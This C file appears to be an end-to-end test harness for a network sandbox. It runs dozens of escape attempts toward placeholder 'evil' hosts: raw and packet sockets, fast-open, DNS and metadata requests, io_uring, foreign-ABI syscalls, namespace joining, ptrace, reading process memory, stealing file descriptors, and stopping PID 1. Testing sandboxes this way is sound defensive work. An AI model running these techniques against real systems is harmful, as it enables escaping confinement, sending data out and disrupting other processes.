/*
 * tests/e2e/matrix_attack.c - every way out that needs more than python, for test_matrix.py.
 *
 *   matrix_attack all            tries each once; a line for each: NAME OPEN|shut DETAIL
 *   matrix_attack elevated       the few that rights would make possible (setuid copy)
 *   matrix_attack daemon         until killed: tries every 20 ms, and keeps a connection busy
 *   matrix_attack race MS        threads that swap addresses and descriptors, while it execs
 *   matrix_attack take PATH      a live socket from a helper behind a UNIX socket
 *   matrix_attack abstract NAME  an abstract socket of somebody outside
 *
 * OPEN is evidence inside; what decides is what arrives in the world (world.py), whose
 * addresses these are. Each try is a child: one that is killed or hangs takes no other along.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/io_uring.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <linux/vm_sockets.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#ifdef __aarch64__
#include "arm32.h"
#endif

#define EVIL4 "10.77.0.66"
#define EVIL6 "fd77::66"
#define RESOLVER "10.77.0.53"
#define METADATA "169.254.169.254"
#define PORT 6666
#define MS 250

static char detail[200];
static const char text[] = "evil bytes";

typedef union {
        struct sockaddr any;
        struct sockaddr_in v4;
        struct sockaddr_in6 v6;
        struct sockaddr_un un;
        struct sockaddr_vm vm;
} address;

static socklen_t to(address *a, const char *host, int port)
{
        memset(a, 0, sizeof(*a));
        if (strchr(host, ':')) {
                a->v6.sin6_family = AF_INET6;
                a->v6.sin6_port = htons(port);
                inet_pton(AF_INET6, host, &a->v6.sin6_addr);
                return sizeof(a->v6);
        }
        a->v4.sin_family = AF_INET;
        a->v4.sin_port = htons(port);
        inet_pton(AF_INET, host, &a->v4.sin_addr);
        return sizeof(a->v4);
}

static int said(const char *what)
{
        snprintf(detail, sizeof(detail), "%s: %s", what, errno ? strerror(errno) : "done");
        return 0;
}

/* Evil's servers begin with this word; our own proxy never does. */
static int evil_answers(int fd)
{
        char got[64] = "";
        struct pollfd p = { .fd = fd, .events = POLLIN };

        send(fd, text, sizeof(text), MSG_NOSIGNAL);
        if (poll(&p, 1, MS) > 0 && recv(fd, got, sizeof(got) - 1, MSG_DONTWAIT) > 0)
                return strstr(got, "EVIL") != NULL;
        return 0;
}

static int finish_connect(int fd, const address *a, socklen_t len)
{
        struct pollfd p = { .fd = fd, .events = POLLOUT };

        fcntl(fd, F_SETFL, O_NONBLOCK);
        errno = 0;
        if (connect(fd, &a->any, len) < 0 && errno != EINPROGRESS)
                return said("connect");
        if (poll(&p, 1, MS) <= 0)
                return said("poll");
        return evil_answers(fd);
}

static int stream(const char *host, int port, int protocol)
{
        address a;
        socklen_t len = to(&a, host, port);
        int fd = socket(a.any.sa_family, SOCK_STREAM, protocol);

        return fd < 0 ? said("socket") : finish_connect(fd, &a, len);
}

static int tcp4(void) { return stream(EVIL4, PORT, 0); }
static int tcp6(void) { return stream(EVIL6, PORT, 0); }
static int mapped(void) { return stream("::ffff:" EVIL4, PORT, 0); }
static int mptcp(void) { return stream(EVIL4, PORT, 262); }
static int sctp(void) { return stream(EVIL4, PORT, 132); }
static int tcp_metadata(void) { return stream(METADATA, 80, 0); }
static int dns_tcp(void) { return stream(EVIL4, 53, 0); }
static int dot(void) { return stream(EVIL4, 853, 0); }

static int bound_device(const char *device)
{
        address a;
        socklen_t len = to(&a, EVIL4, PORT);
        int fd = socket(AF_INET, SOCK_STREAM, 0);

        if (fd < 0)
                return said("socket");
        setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, device, strlen(device) + 1);
        return finish_connect(fd, &a, len);
}

static int tcp_device(void) { return bound_device("eth0"); }

static int fastopen(int flags, int how)
{
        address a;
        socklen_t len = to(&a, EVIL4, PORT);
        struct iovec io = { (void *)text, sizeof(text) };
        struct msghdr h = { .msg_name = &a, .msg_namelen = len, .msg_iov = &io, .msg_iovlen = 1 };
        struct mmsghdr hh = { .msg_hdr = h };
        int fd = socket(AF_INET, SOCK_STREAM, 0), one = 1;

        if (fd < 0)
                return said("socket");
        errno = 0;
        if (how == 0)
                sendto(fd, text, sizeof(text), flags, &a.any, len);
        else if (how == 1)
                sendmsg(fd, &h, flags);
        else if (how == 2)
                sendmmsg(fd, &hh, 1, flags);
        else if (!setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &one, sizeof(one)))
                connect(fd, &a.any, len);
        said("send");
        return evil_answers(fd);
}

static int fast_sendto(void) { return fastopen(MSG_FASTOPEN | MSG_NOSIGNAL, 0); }
static int fast_sendmsg(void) { return fastopen(MSG_FASTOPEN | MSG_NOSIGNAL, 1); }
static int fast_sendmmsg(void) { return fastopen(MSG_FASTOPEN | MSG_NOSIGNAL, 2); }
static int fast_connect(void) { return fastopen(0, 3); }

/* A query for direct.evil.test, A. */
static const char query[] = "\x12\x34\x01\0\0\1\0\0\0\0\0\0\6direct\4evil\4test\0\0\1\0\1";

static int ask(const char *server)
{
        address a;
        socklen_t len = to(&a, server, 53);
        int fd = socket(a.any.sa_family, SOCK_DGRAM, 0);
        struct pollfd p = { .fd = fd, .events = POLLIN };
        unsigned char got[512];
        ssize_t n;

        if (fd < 0)
                return said("socket");
        errno = 0;
        if (sendto(fd, query, sizeof(query) - 1, 0, &a.any, len) < 0)
                return said("sendto");
        if (poll(&p, 1, MS) <= 0)
                return said("no answer");
        n = recv(fd, got, sizeof(got), 0);
        snprintf(detail, sizeof(detail), "code %d, %d answers", n > 8 ? got[3] & 15 : -1,
                 n > 8 ? got[7] : -1);
        return 0;
}

static int dns_evil(void) { return ask(EVIL4); }
static int dns_evil6(void) { return ask(EVIL6); }
static int dns_resolver(void) { return ask(RESOLVER); }
static int dns_docker(void) { return ask("127.0.0.11"); }

static int datagram(const char *host, int protocol, const char *device, int connected)
{
        address a;
        socklen_t len = to(&a, host, PORT);
        int fd = socket(a.any.sa_family, SOCK_DGRAM, protocol), one = 1;

        if (fd < 0)
                return said("socket");
        setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &one, sizeof(one));
        if (device)
                setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, device, strlen(device) + 1);
        errno = 0;
        if (connected) {
                connect(fd, &a.any, len);
                send(fd, text, sizeof(text), MSG_NOSIGNAL);
        } else {
                sendto(fd, text, sizeof(text), MSG_NOSIGNAL, &a.any, len);
        }
        said("send");
        return evil_answers(fd);
}

static int udp4(void) { return datagram(EVIL4, 0, NULL, 0); }
static int udp6(void) { return datagram(EVIL6, 0, NULL, 0); }
static int udp_connected(void) { return datagram(EVIL4, 0, NULL, 1); }
static int udp_eth0(void) { return datagram(EVIL4, 0, "eth0", 0); }
static int udp_broadcast(void) { return datagram("10.77.255.255", 0, NULL, 0); }
static int udp_multicast(void) { return datagram("224.0.0.251", 0, "eth0", 0); }
static int udplite(void) { return datagram(EVIL4, 136, NULL, 0); }
static int ping(void) { return datagram(EVIL4, IPPROTO_ICMP, NULL, 0); }
static int quic(void)
{
        address a;
        socklen_t len = to(&a, EVIL4, 443);
        int fd = socket(AF_INET, SOCK_DGRAM, 0);

        if (fd < 0)
                return said("socket");
        errno = 0;
        sendto(fd, text, sizeof(text), 0, &a.any, len);
        return said("sendto");
}

/* The device by its number in each message, past a socket that is bound to lo. */
static int pktinfo(int family)
{
        address a;
        socklen_t len = to(&a, family == AF_INET ? EVIL4 : EVIL6, PORT);
        int fd = socket(family, SOCK_DGRAM, 0);

        if (fd < 0)
                return said("socket");
        for (int bound = 0; bound < 2; bound++) {
                for (int i = 1; i < 40; i++) {
                        struct iovec io = { (void *)text, sizeof(text) };
                        char room[CMSG_SPACE(sizeof(struct in6_pktinfo))] = "";
                        struct msghdr h = { .msg_name = &a, .msg_namelen = len, .msg_iov = &io,
                                            .msg_iovlen = 1, .msg_control = room };
                        struct cmsghdr *c = (struct cmsghdr *)room;
                        int index = htonl(i);

                        if (family == AF_INET) {
                                struct in_pktinfo p = { .ipi_ifindex = i };

                                *c = (struct cmsghdr){ CMSG_LEN(sizeof(p)), IPPROTO_IP,
                                                       IP_PKTINFO };
                                memcpy(CMSG_DATA(c), &p, sizeof(p));
                                h.msg_controllen = CMSG_SPACE(sizeof(p));
                                setsockopt(fd, IPPROTO_IP, IP_UNICAST_IF, &index, sizeof(index));
                        } else {
                                struct in6_pktinfo p = { .ipi6_ifindex = i };

                                *c = (struct cmsghdr){ CMSG_LEN(sizeof(p)), IPPROTO_IPV6,
                                                       IPV6_PKTINFO };
                                memcpy(CMSG_DATA(c), &p, sizeof(p));
                                h.msg_controllen = CMSG_SPACE(sizeof(p));
                        }
                        sendmsg(fd, &h, MSG_DONTWAIT | MSG_NOSIGNAL);
                }
                setsockopt(fd, SOL_SOCKET, SO_BINDTODEVICE, "lo", 3);
        }
        return evil_answers(fd);
}

static int pktinfo4(void) { return pktinfo(AF_INET); }
static int pktinfo6(void) { return pktinfo(AF_INET6); }

static int vsock(void)
{
        static const int types[] = { SOCK_STREAM, SOCK_DGRAM, SOCK_SEQPACKET };
        int opened = 0;

        for (unsigned i = 0; i < 3; i++) {
                int fd = socket(AF_VSOCK, types[i], 0);

                opened += fd >= 0;
        }
        said("socket");
        return opened > 0;
}

static int packet(void)
{
        unsigned char frame[64] = "\xff\xff\xff\xff\xff\xff\x02\0\0\0\0\1\x08\0";
        struct sockaddr_ll at = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP),
                                  .sll_halen = 6 };
        static const int types[] = { SOCK_RAW, SOCK_DGRAM, SOCK_PACKET };

        for (unsigned i = 0; i < 3; i++) {
                int fd = socket(AF_PACKET, types[i], htons(ETH_P_ALL));

                for (at.sll_ifindex = 1; fd >= 0 && at.sll_ifindex < 40; at.sll_ifindex++)
                        sendto(fd, frame, sizeof(frame), 0, (void *)&at, sizeof(at));
        }
        return said("socket");
}

static int raw(void)
{
        static const int protocols[] = { IPPROTO_ICMP, IPPROTO_RAW, IPPROTO_UDP, IPPROTO_TCP, 253 };
        address a;
        socklen_t len = to(&a, EVIL4, 0);

        for (unsigned i = 0; i < 5; i++) {
                int fd = socket(AF_INET, SOCK_RAW, protocols[i]);
                unsigned char p[40] = "\x45\0\0\x28\0\1\0\0\x40\x11\0\0";

                if (fd < 0)
                        continue;
                memcpy(p + 16, &a.v4.sin_addr, 4);
                sendto(fd, p, sizeof(p), 0, &a.any, len);
        }
        len = to(&a, EVIL6, 0);
        for (unsigned i = 0; i < 2; i++) {
                int fd = socket(AF_INET6, SOCK_RAW, i ? IPPROTO_ICMPV6 : 253);

                if (fd >= 0)
                        sendto(fd, text, sizeof(text), 0, &a.any, len);
        }
        return said("socket");
}

/* Any other family that opens could have somebody behind it, here or on another kernel. */
static int families(void)
{
        static const int numbers[] = { 3, 4, 5, 9, 15, 21, 24, 27, 29, 30, 31, 32, 36, 37, 38, 39,
                                       41, 42, 43, 44, 45 };
        static const int types[] = { SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET };

        for (unsigned i = 0; i < sizeof(numbers) / sizeof(*numbers); i++) {
                for (unsigned t = 0; t < 4; t++) {
                        int fd = socket(numbers[i], types[t], 0);

                        if (fd < 0 || numbers[i] == 38) /* AF_ALG leads nowhere */
                                continue;
                        snprintf(detail, sizeof(detail), "family %d opened", numbers[i]);
                        return 0; /* nothing arrives by it: a detail, not a verdict */
                }
        }
        return said("socket");
}

/* Changing the network it is in: a device up, an address, a route. */
static int netlink_admin(void)
{
        static const int protocols[] = { NETLINK_ROUTE, NETLINK_NETFILTER, NETLINK_XFRM,
                                         NETLINK_GENERIC };
        struct {
                struct nlmsghdr h;
                struct rtmsg r;
        } m = { .h = { sizeof(m), RTM_NEWROUTE, NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE, 1, 0 },
                .r = { .rtm_family = AF_INET, .rtm_table = 200, .rtm_type = RTN_BLACKHOLE,
                       .rtm_protocol = RTPROT_BOOT, .rtm_scope = RT_SCOPE_UNIVERSE } };
        struct {
                struct nlmsghdr h;
                struct nlmsgerr e;
        } got = { 0 };
        int fd = socket(AF_NETLINK, SOCK_RAW, protocols[0]);

        if (fd < 0)
                return said("socket");
        fcntl(fd, F_SETFL, O_NONBLOCK);
        send(fd, &m, sizeof(m), 0);
        if (recv(fd, &got, sizeof(got), 0) < (ssize_t)sizeof(got.h))
                return said("recv");
        errno = -got.e.error;
        said("new route");
        return !got.e.error;
}

static int ring(void)
{
        struct io_uring_params p = { 0 };
        int fd = (int)syscall(425, 8, &p);
        address a;
        socklen_t len = to(&a, EVIL4, PORT);

        if (fd < 0)
                return said("io_uring_setup");
        size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
        char *sq = mmap(NULL, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, fd, 0);
        struct io_uring_sqe *e = mmap(NULL, p.sq_entries * sizeof(*e), PROT_READ | PROT_WRITE,
                                      MAP_SHARED | MAP_POPULATE, fd, IORING_OFF_SQES);
        int s = socket(AF_INET, SOCK_STREAM, 0);
        unsigned *array = (void *)(sq + p.sq_off.array), *tail = (void *)(sq + p.sq_off.tail);

        if (sq == MAP_FAILED || (void *)e == MAP_FAILED)
                return said("mmap");
        memset(e, 0, 2 * sizeof(*e));
        e[0].opcode = IORING_OP_CONNECT;
        e[0].fd = s;
        e[0].addr = (uintptr_t)&a;
        e[0].off = len;
        array[0] = 0;
        __atomic_store_n(tail, 1, __ATOMIC_RELEASE);
        syscall(426, fd, 1, 1, 1, NULL, 0);
        snprintf(detail, sizeof(detail), "a ring was made");
        evil_answers(s);
        return 1;
}

#ifdef __x86_64__
static long int80(long nr, long a, long b, long c)
{
        long r;

        __asm__ volatile("int $0x80" : "=a"(r) : "a"(nr), "b"(a), "c"(b), "d"(c)
                         : "memory", "r8", "r9", "r10", "r11");
        return r;
}

static int foreign_i386(void)
{
        address *a = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
                          MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
        socklen_t len = to(a, EVIL4, PORT);
        long fd = int80(359, AF_INET, SOCK_STREAM, 0);

        errno = (int)-fd;
        if (fd < 0)
                return said("i386 socket");
        int80(362, fd, (long)(uintptr_t)a, len);
        said("i386 connect");
        return evil_answers((int)fd);
}

static int foreign_x32(void)
{
        address a;
        socklen_t len = to(&a, EVIL4, PORT);
        long fd = syscall(0x40000000 | SYS_socket, AF_INET, SOCK_STREAM, 0);

        if (fd < 0)
                return said("x32 socket");
        syscall(0x40000000 | SYS_connect, fd, &a, len);
        said("x32 connect");
        return evil_answers((int)fd);
}
#elif defined(__aarch64__)
static int foreign_arm32(void)
{
        int status = arm32_run();

        if (status == -1)
                snprintf(detail, sizeof(detail), "no AArch32 here");
        else if (WIFSIGNALED(status))
                snprintf(detail, sizeof(detail), "killed by signal %d", WTERMSIG(status));
        else
                snprintf(detail, sizeof(detail), "exit status %d", WEXITSTATUS(status));
        return status != -1 && !WIFSIGNALED(status);
}
#endif

static int new_spaces(void)
{
        unshare(CLONE_NEWUSER | CLONE_NEWNET);
        unshare(CLONE_NEWNET);
        return tcp4() | udp4();
}

static int clone3_space(void)
{
        uint64_t args[11] = { CLONE_NEWUSER | CLONE_NEWNET, [4] = SIGCHLD };
        long pid = syscall(435, args, 88);

        if (pid < 0)
                return said("clone3");
        if (!pid)
                _exit(tcp4() | udp4());
        return 0;
}

/* Every process that is there, and PID 1 and its ends outside if they are seen. */
static int each_process(int (*attack)(int pid))
{
        DIR *d = opendir("/proc");
        int open = 0;

        for (struct dirent *e; d && (e = readdir(d));) {
                int pid = atoi(e->d_name);
                char comm[64] = "", path[64];
                FILE *f;

                if (pid <= 0 || pid == getpid() || pid == getppid())
                        continue;
                snprintf(path, sizeof(path), "/proc/%d/comm", pid);
                f = fopen(path, "r");
                if (!f || !fgets(comm, sizeof(comm), f) || strncmp(comm, "airlock", 7)) {
                        if (f)
                                fclose(f);
                        continue;
                }
                fclose(f);
                if (attack(pid)) {
                        snprintf(detail, sizeof(detail), "process %d, %.40s", pid, comm);
                        open = 1;
                }
        }
        return open;
}

static int join(int pid)
{
        char path[64];
        int fd, r;

        snprintf(path, sizeof(path), "/proc/%d/ns/net", pid);
        fd = open(path, O_RDONLY);
        r = fd >= 0 && !setns(fd, CLONE_NEWNET);
        fd = (int)syscall(434, pid, 0);
        if (fd >= 0 && !setns(fd, CLONE_NEWNET | CLONE_NEWUSER))
                r = 1;
        tcp4();
        udp4();
        return r;
}

static int attach(int pid)
{
        if (ptrace(PTRACE_SEIZE, pid, 0, 0))
                return 0;
        ptrace(PTRACE_DETACH, pid, 0, 0);
        return 1;
}

static int read_memory(int pid)
{
        char byte[8], path[64];
        struct iovec here = { byte, 8 };
        struct iovec there = { (void *)0x400000, 8 };
        int fd;

        if (process_vm_readv(pid, &here, 1, &there, 1, 0) >= 0 || errno == EFAULT)
                return 1;
        snprintf(path, sizeof(path), "/proc/%d/mem", pid);
        fd = open(path, O_RDWR);
        if (fd >= 0)
                close(fd);
        return fd >= 0;
}

static int borrow(int pid)
{
        int pidfd = (int)syscall(434, pid, 0), taken = 0;
        char path[64];

        for (int i = 0; pidfd >= 0 && i < 64; i++) {
                int fd = (int)syscall(438, pidfd, i, 0);

                if (fd >= 0) {
                        taken++;
                        evil_answers(fd);
                }
        }
        for (int i = 0; i < 64; i++) {
                struct stat st;

                snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, i);
                taken += !stat(path, &st);
        }
        return taken;
}

/* SIGURG: asks for the same right as SIGKILL, and harms nobody. */
static int signal_one(int pid) { return pid != 1 && !kill(pid, SIGURG); }
static int stop_one(int pid) { return pid == 1 && (kill(pid, SIGSTOP), 0); }

static int joins(void) { return each_process(join); }
static int traces(void) { return each_process(attach); }
static int reads(void) { return each_process(read_memory); }
static int borrows(void) { return each_process(borrow); }
static int signals(void) { return each_process(stop_one) | each_process(signal_one); }

static int inherited(void)
{
        DIR *d = opendir("/proc/self/fd");
        int open = 0;

        for (struct dirent *e; d && (e = readdir(d));) {
                int fd = atoi(e->d_name);
                struct stat st;

                if (e->d_name[0] == '.' || fd == dirfd(d) || fstat(fd, &st))
                        continue;
                if (S_ISSOCK(st.st_mode) || fd > 2) {
                        snprintf(detail, sizeof(detail), "fd %d, mode %o", fd, st.st_mode);
                        open = 1;
                }
                if (S_ISSOCK(st.st_mode))
                        evil_answers(fd);
        }
        return open;
}

/* PID 1's limits: a notifier or init that may open nothing any more. */
static int limits(void)
{
        uint64_t none[2] = { 0, 0 };

        return !syscall(SYS_prlimit64, 1, 7 /* RLIMIT_NOFILE */, none, NULL) || said("prlimit");
}

static int tun(void)
{
        int fd = open("/dev/net/tun", O_RDWR);
        struct ifreq r = { .ifr_flags = 0x1001 };

        if (fd < 0)
                return said("open");
        ioctl(fd, 0x400454ca, &r);
        return said("TUNSETIFF");
}

static int mark_socket(void)
{
        int mark = 2588, priority = 6;
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        address a;
        socklen_t len = to(&a, EVIL4, PORT);

        if (fd < 0)
                return said("socket");
        setsockopt(fd, SOL_SOCKET, SO_MARK, &mark, sizeof(mark));
        setsockopt(fd, SOL_SOCKET, SO_PRIORITY, &priority, sizeof(priority));
        return finish_connect(fd, &a, len);
}

/* The uids of airlock's own processes, should rules go by those. */
static int own_ids(void)
{
        int r = 0;

        for (int uid = 65001; uid < 65003; uid++) {
                if (!syscall(SYS_setresuid, uid, uid, uid))
                        r |= tcp4() | udp4();
        }
        return r;
}

static const struct {
        const char *name;
        int (*run)(void);
        int elevated;
} tries[] = {
        { "tcp4", tcp4, 1 },
        { "tcp6", tcp6, 0 },
        { "mapped", mapped, 0 },
        { "tcp-device", tcp_device, 1 },
        { "metadata", tcp_metadata, 0 },
        { "dns-tcp", dns_tcp, 0 },
        { "dot", dot, 0 },
        { "fastopen-sendto", fast_sendto, 0 },
        { "fastopen-sendmsg", fast_sendmsg, 0 },
        { "fastopen-sendmmsg", fast_sendmmsg, 0 },
        { "fastopen-connect", fast_connect, 0 },
        { "udp4", udp4, 1 },
        { "udp6", udp6, 0 },
        { "udp-connected", udp_connected, 0 },
        { "udp-device", udp_eth0, 1 },
        { "udp-pktinfo", pktinfo4, 1 },
        { "udp-pktinfo6", pktinfo6, 0 },
        { "udp-broadcast", udp_broadcast, 0 },
        { "udp-multicast", udp_multicast, 0 },
        { "quic", quic, 0 },
        { "dns-evil", dns_evil, 0 },
        { "dns-evil6", dns_evil6, 0 },
        { "dns-resolver", dns_resolver, 0 },
        { "dns-docker", dns_docker, 0 },
        { "vsock", vsock, 1 },
        { "packet", packet, 1 },
        { "raw", raw, 1 },
        { "mptcp", mptcp, 0 },
        { "sctp", sctp, 0 },
        { "udplite", udplite, 0 },
        { "ping", ping, 0 },
        { "families", families, 0 },
        { "netlink", netlink_admin, 1 },
        { "io-uring", ring, 1 },
#ifdef __x86_64__
        { "i386", foreign_i386, 1 },
        { "x32", foreign_x32, 1 },
#elif defined(__aarch64__)
        { "arm32", foreign_arm32, 1 },
#endif
        { "unshare", new_spaces, 1 },
        { "clone3", clone3_space, 1 },
        { "setns", joins, 1 },
        { "ptrace", traces, 1 },
        { "memory", reads, 1 },
        { "pidfd-getfd", borrows, 1 },
        { "signal", signals, 1 },
        { "prlimit", limits, 1 },
        { "inherited", inherited, 0 },
        { "tun", tun, 1 },
        { "mark", mark_socket, 1 },
        { "own-ids", own_ids, 1 },
};

/* 0 shut, 1 open; the child's own words through a pipe. */
static int attempt(const char *name, int (*run)(void))
{
        int ends[2], status = 0, r;
        char words[200] = "";
        ssize_t n;
        pid_t pid;

        if (pipe(ends) < 0 || (pid = fork()) < 0)
                return 0;
        if (!pid) {
                close(ends[0]);
                alarm(4);
                signal(SIGPIPE, SIG_IGN);
                fcntl(ends[1], F_SETFD, FD_CLOEXEC);
                if (run == inherited) { /* ours is not inherited */
                        dup2(ends[1], 0);
                        close(ends[1]);
                        ends[1] = 0;
                }
                r = run();
                if (write(ends[1], detail, strlen(detail)) < 0)
                        _exit(2);
                _exit(r != 0);
        }
        close(ends[1]);
        n = read(ends[0], words, sizeof(words) - 1);
        words[n > 0 ? n : 0] = '\0';
        close(ends[0]);
        waitpid(pid, &status, 0);
        r = WIFEXITED(status) && WEXITSTATUS(status) == 1;
        if (WIFSIGNALED(status))
                snprintf(words, sizeof(words), "signal %d", WTERMSIG(status));
        printf("%s %s %s\n", name, r ? "OPEN" : "shut", words);
        fflush(stdout);
        return r;
}

/* Four at a time: most of a try is waiting for what must not come. */
static int all(int elevated)
{
        unsigned count = sizeof(tries) / sizeof(*tries);

        for (unsigned worker = 0; worker < 6; worker++) {
                if (fork())
                        continue;
                for (unsigned i = worker; i < count; i += 6) {
                        if (!elevated || tries[i].elevated)
                                attempt(tries[i].name, tries[i].run);
                }
                _exit(0);
        }
        while (wait(NULL) > 0)
                ;
        return 0;
}

/* Setup's: what it opened then must be of no use later. */
static int stay(void)
{
        address a, kept, u, p;
        socklen_t len = to(&a, EVIL4, 6667), kept_len = to(&kept, EVIL4, 6668);
        socklen_t p_len = to(&p, "93.184.216.34", 6667); /* which setup may reach in any case */
        socklen_t u_len = to(&u, EVIL4, 6667);
        int held = socket(AF_INET, SOCK_STREAM, 0), udp = socket(AF_INET, SOCK_DGRAM, 0);

        signal(SIGPIPE, SIG_IGN);
        signal(SIGTERM, SIG_IGN);
        signal(SIGHUP, SIG_IGN);
        if (connect(held, &kept.any, kept_len) < 0)
                perror("held");
        /* The directory as a place where the agent could look for it. */
        for (int i = 0; i < 3000; i++) {
                int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);

                int other = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);

                connect(fd, &a.any, len);
                connect(other, &p.any, p_len);
                sendto(udp, text, sizeof(text), MSG_DONTWAIT, &u.any, u_len);
                send(held, text, sizeof(text), MSG_DONTWAIT);
                usleep(20000);
                close(fd);
                close(other);
        }
        return 0;
}

static address flip;
static volatile int shared_fd = -1;

static void *swap(void *unused)
{
        address good, evil;
        socklen_t len = to(&good, "127.0.0.1", 9);

        (void)unused;
        to(&evil, EVIL4, PORT);
        for (;;) {
                memcpy(&flip, &good, len);
                memcpy(&flip, &evil, len);
        }
        return NULL;
}

static void *swap_fd(void *unused)
{
        (void)unused;
        for (;;) {
                int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
                int u = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);

                if (s >= 0 && u >= 0 && shared_fd >= 0) {
                        dup2(s, shared_fd);
                        dup2(u, shared_fd);
                }
                close(s);
                close(u);
        }
        return NULL;
}

static void *hit(void *unused)
{
        (void)unused;
        for (;;) {
                int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);

                connect(s, &flip.any, sizeof(flip.v4));
                sendto(s, text, sizeof(text), MSG_NOSIGNAL, &flip.any, sizeof(flip.v4));
                connect(shared_fd, &flip.any, sizeof(flip.v4));
                sendto(shared_fd, text, sizeof(text), MSG_NOSIGNAL, &flip.any, sizeof(flip.v4));
                close(s);
        }
        return NULL;
}

/* Threads race, and die in the middle of a call when one of them execs. */
static int race(char **argv)
{
        struct timespec t;
        char left[24];
        long until, now;
        pthread_t p;

        clock_gettime(CLOCK_MONOTONIC, &t);
        now = t.tv_sec * 1000 + t.tv_nsec / 1000000;
        until = argv[3] ? atol(argv[3]) : now + atol(argv[2]);
        if (now >= until)
                return 0;
        to(&flip, EVIL4, PORT);
        shared_fd = dup(2);
        pthread_create(&p, NULL, swap, NULL);
        pthread_create(&p, NULL, swap_fd, NULL);
        for (int i = 0; i < 3; i++)
                pthread_create(&p, NULL, hit, NULL);
        usleep(20000);
        snprintf(left, sizeof(left), "%ld", until);
        execl("/proc/self/exe", argv[0], "race", argv[2], left, NULL);
        return 1;
}

static int connect_unix(const char *path, int abstract)
{
        address a = { .un.sun_family = AF_UNIX };
        size_t len = strlen(path);
        int fd = socket(AF_UNIX, SOCK_STREAM, 0);

        memcpy(a.un.sun_path + abstract, path, len);
        if (fd < 0 || connect(fd, &a.any, offsetof(struct sockaddr_un, sun_path) + len + 1) < 0) {
                printf("%s shut %s\n", abstract ? "abstract" : "unix", strerror(errno));
                return -1;
        }
        printf("%s OPEN %s\n", abstract ? "abstract" : "unix", path);
        return fd;
}

static int take(const char *path)
{
        int fd = connect_unix(path, 0), live;
        char byte[8], room[CMSG_SPACE(sizeof(int))];
        struct iovec io = { byte, sizeof(byte) };
        struct msghdr h = { .msg_iov = &io, .msg_iovlen = 1, .msg_control = room,
                            .msg_controllen = sizeof(room) };

        alarm(3);
        if (fd < 0)
                return 0;
        if (send(fd, "give", 4, MSG_NOSIGNAL) < 0 || recvmsg(fd, &h, 0) <= 0 ||
            !CMSG_FIRSTHDR(&h)) {
                printf("scm-rights shut %s\n", strerror(errno));
                return 0;
        }
        memcpy(&live, CMSG_DATA(CMSG_FIRSTHDR(&h)), sizeof(live));
        send(live, text, sizeof(text), MSG_NOSIGNAL);
        printf("scm-rights OPEN got a live socket\n");
        return 0;
}

int main(int argc, char **argv)
{
        const char *what = argc > 1 ? argv[1] : "all";

        if (!strcmp(what, "daemon"))
                return stay();
        if (!strcmp(what, "race"))
                return race(argv);
        if (!strcmp(what, "take"))
                return take(argv[2]);
        if (!strcmp(what, "abstract"))
                return connect_unix(argv[2], 1) < 0 ? 0 : 0;
        if (!strcmp(what, "elevated")) {
                if (setuid(0) < 0 || geteuid() != 0)
                        printf("setuid shut uid %d, euid %d\n", getuid(), geteuid());
                else
                        printf("setuid shut runs as root\n");
                fflush(stdout);
        }
        return all(!strcmp(what, "elevated"));
}
